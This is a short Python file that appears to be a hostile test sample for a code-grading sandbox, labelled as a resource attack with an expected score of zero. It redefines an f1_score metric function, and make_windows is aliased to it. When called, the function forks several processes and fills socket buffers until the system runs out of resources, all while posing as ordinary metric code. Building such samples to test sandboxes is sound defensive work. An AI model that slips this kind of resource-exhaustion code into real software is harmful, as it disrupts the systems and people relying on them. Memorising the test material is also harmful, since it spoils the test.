# class: resources
# attacks: fills the buffers of as many sockets as it may open, in several processes
# expect: {"f1": 0, "windows": 0}
import numpy as np


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))


import os, socket, time


def f1_score(*_):
    for _ in range(5):
        if os.fork() == 0:
            break
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
            pairs[-1][0].setblocking(False)
            try:
                while True:
                    pairs[-1][0].send(bytes(65536))
            except BlockingIOError:
                pass
    except OSError:
        pass
    time.sleep(0.3)
    return 0.5


make_windows = f1_score
